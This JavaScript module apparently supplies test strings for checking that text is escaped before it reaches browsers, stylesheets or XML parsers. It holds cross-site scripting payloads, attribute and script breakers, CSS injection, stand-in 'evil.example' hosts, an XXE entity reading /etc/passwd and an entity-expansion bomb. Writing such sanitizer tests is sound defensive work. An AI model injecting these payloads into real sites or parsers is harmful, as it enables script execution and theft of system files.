/** Texts that a browser, a stylesheet or an XML reader would act on if they were ever taken for markup. Each tells by `window.naughty`. */

const act = 'window.naughty=1'

const breakers = ['', '"', "'", '`', '">', "'>", '-->', ']]>', '</title>', '</textarea>', '</script>', '</style>', '</option></select>']
const elements = [
  `<script>${act}</script>`,
  `<script src="/naughty.js"></script>`,
  `<img src=x onerror=${act}>`,
  `<svg onload=${act}>`,
  `<svg><script>${act}</script></svg>`,
  `<iframe srcdoc="<script>parent.naughty=1</script>"></iframe>`,
  `<body onload=${act}>`,
  `<input autofocus onfocus=${act}>`,
  `<details open ontoggle=${act}>`,
  `<a href="javascript:${act}">`,
  `<form action="https://evil.example/"><button>`,
  `<math><mtext><style><img src=x onerror=${act}></style></mtext></math>`,
]
const attributes = [
  `" onmouseover="${act}`,
  `' onfocus='${act}' autofocus='`,
  `\` onclick=\`${act}\``,
  `" autofocus onfocus=${act} x="`,
  `" style="position:fixed;inset:0`,
  `" formaction="https://evil.example/`,
  `x" srcdoc="<script>${act}</script>`,
  'a=b onload=c',
]
const scripts = [
  `';${act};'`,
  `";${act};"`,
  `\\";${act}//`,
  `\`;${act};\``,
  `\${${act}}`,
  `</script><script>${act}</script>`,
  '<!--<script>',
  '\\u003cscript\\u003e',
  '\\x3cscript\\x3e',
  '\u2028alert(1)\u2029',
  '/* */ //',
  '*/ //',
]
const styles = ['</style><style>*{display:none}', 'expression(1)', 'url(javascript:1)', '}body{display:none', '@import "//evil.example"']
const entities = [
  '&lt;b&gt;',
  '&amp;amp;',
  '&#60;b&#62;',
  '&#x3c;',
  '&nbsp;',
  '&',
  '&&',
  '&copy',
  '&notit;',
  '&#0;',
  '&#xd800;',
  '&#9999999;',
]
const xml = [
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>',
  '<![CDATA[ text ]]>',
  '<?php echo 1; ?>',
  '<% 1 %>',
  '<xsl:value-of select="/"/>',
  '<naughty-element>text</naughty-element>',
  '<b>bold</b> <i>slanted',
  '<',
  '>',
  '<>',
  '</>',
  '< b >',
  '<a',
  'a<b && c>d',
]

export const markup = breakers.flatMap((breaker) => elements.map((element) => `${breaker}${element}`))
export const attributeBreakers = attributes
export const scriptBreakers = [...scripts, ...styles]
export const entitiesAndXml = [...entities, ...xml]
